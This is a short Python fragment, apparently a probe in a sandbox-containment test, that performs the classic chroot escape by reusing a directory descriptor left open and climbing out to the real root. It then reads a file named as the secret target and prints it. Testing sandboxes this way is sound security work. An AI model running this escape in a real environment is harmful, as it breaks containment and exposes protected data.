"""The classic: a root below a folder that is still open."""

quietly(os.mkdir, "jail")
fd = quietly(os.open, ".", os.O_RDONLY)
if syscall("chroot", ctypes.c_char_p(b"jail"))[0] == 0:
    breach("may change its root")
    os.fchdir(fd)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
os.write(1, read(TARGET["secret"]))
